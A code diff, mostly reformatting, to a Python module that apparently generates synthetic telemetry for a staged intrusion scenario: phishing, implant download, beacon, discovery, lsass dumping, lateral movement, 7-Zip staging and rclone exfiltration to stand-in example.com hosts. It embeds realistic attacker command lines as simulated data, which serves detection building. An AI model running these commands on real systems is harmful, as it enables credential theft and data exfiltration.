@@ -1,6 +1,7 @@
 """A mail opens the door, a quiet beacon keeps it open; then the file server is emptied.
 
-Phishing, foothold, persistence, beacon, discovery, credentials, lateral movement, staging, exfiltration, covered tracks.
+Phishing, foothold, persistence, beacon, discovery, credentials, lateral movement, staging, exfiltration, covered
+tracks.
 """
 
 from __future__ import annotations
@@ -20,7 +21,9 @@ CONTROL: Final = Site("cdn-sync.example.net", "203.0.113.222", is_plain=True)
 DROP: Final = Site("files-vault.example.com", "198.51.100.223", is_plain=False)
 BEACON_US: Final = 20 * MINUTE
 _AGENT: Final = "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)"
-_IMPLANT: Final = Program("C:\\Users\\{login}\\AppData\\Roaming\\SyncHost\\synchost.exe", "1.0.0.1", original="synchost.exe")
+_IMPLANT: Final = Program(
+    "C:\\Users\\{login}\\AppData\\Roaming\\SyncHost\\synchost.exe", "1.0.0.1", original="synchost.exe"
+)
 _SERVICE: Final = Program("C:\\Windows\\svcupd64.exe", "1.0.0.1", original="svcupd64.exe")
 _DUMP_TRACE: Final = (
     "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
@@ -49,7 +52,9 @@ class _Cast:
         if key not in scene.services:
             image = windows.image_of(_IMPLANT, self.victim.login)
             session = self.session(scene)
-            scene.services[key] = Process(scene.chance.between(3000, 9000), scene.guid(self.host), image, image, session.user)
+            scene.services[key] = Process(
+                scene.chance.between(3000, 9000), scene.guid(self.host), image, image, session.user
+            )
         return scene.services[key]
 
     def remote(self, scene: Scene) -> Process:
@@ -78,16 +83,22 @@ def _enter(script: Script, cast: _Cast) -> None:
 
     def phish(scene: Scene, time_us: int, mark: int) -> None:
         sender = "accounts@billing-portal.example.net"
-        linux.mail(scene, time_us, sender, victim.email, "mx4.billing-portal.example.net", "203.0.113.221", 184_220, mark)
+        linux.mail(
+            scene, time_us, sender, victim.email, "mx4.billing-portal.example.net", "203.0.113.221", 184_220, mark
+        )
 
     step = script.step("phishing", "T1566.001", "A mail with a document arrives", "收到一封带附件的邮件")
-    script.plant(step, script.at(0.0, 9.6), script.organisation.first("mail"), victim.email, phish, sender="203.0.113.221")
+    script.plant(
+        step, script.at(0.0, 9.6), script.organisation.first("mail"), victim.email, phish, sender="203.0.113.221"
+    )
 
     def open_document(scene: Scene, time_us: int, mark: int) -> None:
         session = cast.session(scene)
         desk = scene.desks.get(victim.login)
         mail = desk.mail if desk else windows.service(scene, host, "explorer")
-        folder = f"C:\\Users\\{victim.login}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3Q7ZV1B\\"
+        folder = (
+            f"C:\\Users\\{victim.login}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3Q7ZV1B\\"
+        )
         word = windows.start(
             scene, time_us, host, session, mail, PROGRAMS["word"],
             f'"{PROGRAMS["word"].image}" /n "{folder}Invoice 8841.docm" /o ""', mark, folder=folder,
@@ -109,9 +120,7 @@ def _enter(script: Script, cast: _Cast) -> None:
 
     def download(scene: Scene, time_us: int, mark: int) -> None:
         shell = scene.services.get(f"{host.name}/stager") or windows.service(scene, host, "explorer")
-        request = Request(
-            "GET", CONTROL.name, "/update/synchost.exe", _AGENT, 200, 0, 418_304, "application/x-dosexec"
-        )
+        request = Request("GET", CONTROL.name, "/update/synchost.exe", _AGENT, 200, 0, 418_304, "application/x-dosexec")
         network.fetch(scene, time_us, host, CONTROL, request, mark, user=victim.login, process=shell)
         image = windows.image_of(_IMPLANT, victim.login)
         windows.wrote(scene, time_us + 2 * SECOND, host, shell, image, mark)
@@ -156,9 +165,15 @@ def _stay(script: Script, cast: _Cast) -> None:
 
     def beacon(scene: Scene, time_us: int, mark: int) -> None:
         request = Request(
-            "POST", CONTROL.name, "/update/report", _AGENT, 200, scene.chance.between(180, 420), scene.chance.between(90, 140),
+            "POST",
+            CONTROL.name,
+            "/update/report",
+            _AGENT,
+            200,
+            scene.chance.between(180, 420),
+            scene.chance.between(90, 140),
             "text/plain",
-        )  # fmt: skip
+        )
         network.fetch(scene, time_us, host, CONTROL, request, mark, user=victim.login, process=cast.implant(scene))
 
     step = script.step("beacon", "T1071.001", "It reports to its master three times an hour", "每小时三次回连控制端")
@@ -188,7 +203,14 @@ def _look_around(script: Script, cast: _Cast) -> None:
             process = windows.start(scene, moment_us, host, session, console, PROGRAMS[name], command, mark)
             if name == "net":
                 windows.start(
-                    scene, moment_us + 60_000, host, session, process, PROGRAMS["net1"], command.replace("net.exe", "net1"), mark
+                    scene,
+                    moment_us + 60_000,
+                    host,
+                    session,
+                    process,
+                    PROGRAMS["net1"],
+                    command.replace("net.exe", "net1"),
+                    mark,
                 )
 
     step = script.step("discovery", "T1069.002", "It asks who is who in the domain", "查询域内的人员与主机")
@@ -205,7 +227,9 @@ def _look_around(script: Script, cast: _Cast) -> None:
         windows.opened_process(scene, time_us + 300_000, host, tool, lsass, "0x1FFFFF", _DUMP_TRACE, mark)
         windows.wrote(scene, time_us + 400_000, host, tool, path, mark)
 
-    step = script.step("credentials", "T1003.001", "It writes the memory of lsass to a file", "转储 lsass 内存以获取凭据")
+    step = script.step(
+        "credentials", "T1003.001", "It writes the memory of lsass to a file", "转储 lsass 内存以获取凭据"
+    )
     script.plant(step, script.at(0.34, 11.6), host, victim.login, dump, file="d81.tmp")
 
 
@@ -214,11 +238,14 @@ def _move(script: Script, cast: _Cast) -> None:
 
     def move(scene: Scene, time_us: int, mark: int) -> None:
         session = scene.session_of(admin, elevated=True)
-        network.open_share(
-            scene, time_us, host, files, session, "ADMIN$", (("svcupd64.exe", 418_304, True),), mark
-        )
+        network.open_share(scene, time_us, host, files, session, "ADMIN$", (("svcupd64.exe", 418_304, True),), mark)
         windows.wrote(
-            scene, time_us + 900_000, files, Process(4, scene.guid(files), "System", "System", session.user), _SERVICE.image, mark
+            scene,
+            time_us + 900_000,
+            files,
+            Process(4, scene.guid(files), "System", "System", session.user),
+            _SERVICE.image,
+            mark,
         )
         windows.service_installed(scene, time_us + 2 * SECOND, files, "svcupd64", "%SystemRoot%\\svcupd64.exe", mark)
         started = windows.start(
@@ -239,10 +266,16 @@ def _take(script: Script, cast: _Cast) -> None:
     def stage(scene: Scene, time_us: int, mark: int) -> None:
         session = scene.machine_session(files)
         tool = windows.start(
-            scene, time_us, files, session, cast.remote(scene), PROGRAMS["sevenzip"],
-            "C:\\ProgramData\\7za.exe a -t7z -mhe=on -pW1nterRoad C:\\ProgramData\\cache01.7z D:\\Shares\\archive\\*", mark,
+            scene,
+            time_us,
+            files,
+            session,
+            cast.remote(scene),
+            PROGRAMS["sevenzip"],
+            "C:\\ProgramData\\7za.exe a -t7z -mhe=on -pW1nterRoad C:\\ProgramData\\cache01.7z D:\\Shares\\archive\\*",
+            mark,
             folder="C:\\ProgramData\\",
-        )  # fmt: skip
+        )
         windows.wrote(scene, time_us + 3 * SECOND, files, tool, "C:\\ProgramData\\cache01.7z", mark)
         windows.end(scene, time_us + 9 * MINUTE, files, tool, mark)
 
@@ -252,23 +285,42 @@ def _take(script: Script, cast: _Cast) -> None:
     def send(scene: Scene, time_us: int, mark: int) -> None:
         session = scene.machine_session(files)
         tool = windows.start(
-            scene, time_us, files, session, cast.remote(scene), PROGRAMS["rclone"],
-            "C:\\ProgramData\\rclone.exe copy C:\\ProgramData\\cache01.7z vault:in --transfers 4 --no-check-certificate", mark,
+            scene,
+            time_us,
+            files,
+            session,
+            cast.remote(scene),
+            PROGRAMS["rclone"],
+            f"{PROGRAMS['rclone'].image} copy C:\\ProgramData\\cache01.7z vault:in --transfers 4 --no-check-certificate",
+            mark,
             folder="C:\\ProgramData\\",
-        )  # fmt: skip
+        )
         network.lookup(scene, time_us + SECOND, files, DROP.name, DROP.address, mark)
         windows.asked(scene, time_us + SECOND, files, tool, DROP.name, DROP.address, mark)
         flow, uid = network.connect(
-            scene, time_us + 2 * SECOND, files.address, DROP.address, 443, "ssl", 14 * MINUTE, 2_340_117_551, 1_204_000, mark
+            scene,
+            time_us + 2 * SECOND,
+            files.address,
+            DROP.address,
+            443,
+            "ssl",
+            14 * MINUTE,
+            2_340_117_551,
+            1_204_000,
+            mark,
         )
         scene.sensor.tls(time_us + 2 * SECOND, flow, uid, Tls(DROP.name, network.fingerprint(DROP.name)), mark)
-        windows.connected(scene, time_us + 2 * SECOND, files, tool, flow.source_port, DROP.address, 443, DROP.name, mark)
+        windows.connected(
+            scene, time_us + 2 * SECOND, files, tool, flow.source_port, DROP.address, 443, DROP.name, mark
+        )
         if scene.proxy is not None:
             scene.proxy.tunnel(
                 time_us + 2 * SECOND, files.address, "-", DROP.name, DROP.address, 14 * MINUTE, 1_204_000, mark
             )
 
-    step = script.step("exfiltration", "T1567.002", "Two gigabytes leave for a storage service", "两千兆字节数据传往网盘")
+    step = script.step(
+        "exfiltration", "T1567.002", "Two gigabytes leave for a storage service", "两千兆字节数据传往网盘"
+    )
     script.plant(step, script.at(0.67, 21.5), files, account, send, domain=DROP.name, ip=DROP.address)
 
     def cover(scene: Scene, time_us: int, mark: int) -> None:
